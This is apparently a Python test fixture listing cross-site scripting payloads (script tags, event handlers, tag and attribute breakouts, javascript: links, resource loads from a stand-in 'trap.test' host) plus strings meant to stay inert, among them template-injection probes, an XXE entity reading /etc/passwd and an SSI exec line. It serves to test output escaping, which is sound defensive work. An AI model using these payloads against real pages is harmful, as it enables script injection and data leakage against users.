"""What attackers put into texts to have something of theirs run, or fetched, where the text is shown.

`alert(1)` shows a dialog, which a frame from elsewhere may not: that one writes `ran` to the console. TRAP is an
address of theirs. None is longer than a title may be.
"""

TRAP = "http://trap.test"
"""Stands for the address that is put in its place."""

_RUN = "alert(1)"
_TELL = "console.log('ran')"

_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt\t>{_RUN}</sCrIpT\n>",
    f"<script type=module>{_RUN}</script>",
    f"<script src={TRAP}/run.js></script>",
    f"<script/src='{TRAP}/run.js'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={TRAP}/run.js></script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe srcdoc='&lt;script&gt;{_RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe src="data:text/html,<script>{_TELL}</script>"></iframe>',
    f'<object data="data:text/html,<script>{_TELL}</script>"></object>',
    f'<embed src="data:text/html,<script>{_TELL}</script>">',
]

_HANDLERS = [
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x\x0conerror={_RUN}>",
    "<img src=x onerror=&#x61;lert&lpar;1&rpar;>",
    f"<IMG SRC=x ONERROR='{_RUN}'",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<iframe onload={_RUN}></iframe>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<x tabindex=1 autofocus onfocus={_RUN}>x</x>",
    f"<x contenteditable autofocus onfocus={_RUN}>x</x>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video><source onerror={_RUN} src=x></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<object data=x onerror={_RUN}></object>",
    f"<style onload={_RUN}></style>",
    f"<link rel=stylesheet href={TRAP}/style.css onload={_RUN}>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUN}>x</b>",
    f"<b style='transition:outline 1s' ontransitionend={_RUN}>x</b><img src=x onerror={_RUN}>",
]

_BREAKOUTS = [
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"><script>{_RUN}</script>",
    f'" tabindex=1 autofocus onfocus={_RUN} x="',
    f"' tabindex=1 autofocus onfocus={_RUN} x='",
    f"x tabindex=1 autofocus onfocus={_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"--!><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</td></tr></tbody></table><script>{_RUN}</script>",
    f"</body></html><script>{_RUN}</script>",
    f'";{_RUN};//',
    f"';{_RUN};//",
    f"<!--><script>{_RUN}</script>-->",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={_RUN}>'></noembed>",
    f"<template></template><xmp><img title='</xmp><img src=x onerror={_RUN}>'></xmp>",
]

_FETCHES = [
    f"<img src={TRAP}/x>",
    f"<img srcset='{TRAP}/x 1x'>",
    f"<img src={TRAP.removeprefix('http:')}/x>",
    f"<picture><source srcset={TRAP}/x><img></picture>",
    f"<input type=image src={TRAP}/x>",
    f"<video poster={TRAP}/x></video>",
    f"<audio src={TRAP}/x></audio>",
    f"<video><track default src={TRAP}/x kind=captions></video><img src={TRAP}/x>",
    f"<iframe src={TRAP}/x></iframe>",
    f"<object data={TRAP}/x></object>",
    f"<embed src={TRAP}/x>",
    f"<svg><image href={TRAP}/x></svg>",
    f"<svg><filter><feImage href={TRAP}/x /></filter></svg><img src={TRAP}/x>",
    f"<table background={TRAP}/x><tr><td>x</table>",
    f"<body background={TRAP}/x>",
    f"<base href={TRAP}/><img src=x>",
    f"<link rel=stylesheet href={TRAP}/style.css>",
    f"<link rel=preload as=image href={TRAP}/x>",
    f"<link rel=modulepreload href={TRAP}/run.js>",
    f"<style>@import '{TRAP}/style.css';</style>",
    f"<style>body{{background:url({TRAP}/x)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({TRAP}/x)}}*{{font-family:x}}</style>",
    f"<style>td:first-child{{background:url({TRAP}/x)}}</style>",
    f"<b style='content:url({TRAP}/x)'>x</b>",
    f"<b style='background:url({TRAP}/x)'>x</b>",
    f'" style="background:url({TRAP}/x)',
    f"red}}body{{background:url({TRAP}/x)}}",
    f"<meta http-equiv=refresh content=0;url={TRAP}/x>",
    f"<meta http-equiv=refresh content='0;url={TRAP}/x'>",
]

_CLICKS = [
    f"<a href=javascript:{_RUN}>click</a>",
    f"<a href=' \x01java\nscript:{_RUN}'>click</a>",
    f"<a href=&#106;avascript&colon;{_RUN}>click</a>",
    f"<svg><a href=javascript:{_RUN}><text y=20>click</text></a></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>click</text></a></svg>",
    f"<form action=javascript:{_RUN}><button>click</button></form>",
    f"<form><button formaction=javascript:{_RUN}>click</button></form>",
    f"<form><input type=submit value=click formaction={TRAP}/x></form>",
    f"<form action={TRAP}/x><button>click</button></form>",
    f"<a href={TRAP}/x>click</a>",
    f"<a href={TRAP}/x target=_blank>click</a>",
    f"<a href=# ping={TRAP}/x>click</a>",
    f"<b onclick={_RUN}>click</b>",
    f"<b onmouseover={_RUN}>click</b>",
    f"<b onpointerdown={_RUN} style='position:fixed;inset:0'>click</b>",
    f'" onclick={_RUN} x="',
]

ATTACKS = [*_SCRIPTS, *_HANDLERS, *_BREAKOUTS, *_FETCHES, *_CLICKS]
"""Each works in a page that takes it as it is, in one place or another."""

HARMLESS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__} %s %(title)s {title}",
    "<?php echo 7*7 ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<!--#exec cmd=id -->",
    '=HYPERLINK("http://trap.test/x")',
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<template>",
    "</table>",
    "&copy;&nbsp;&quot;&#0;&#x110000;&notit;",
]
"""Does nothing in a browser, or only where somebody decodes or computes it once more: it has to be shown as it is."""
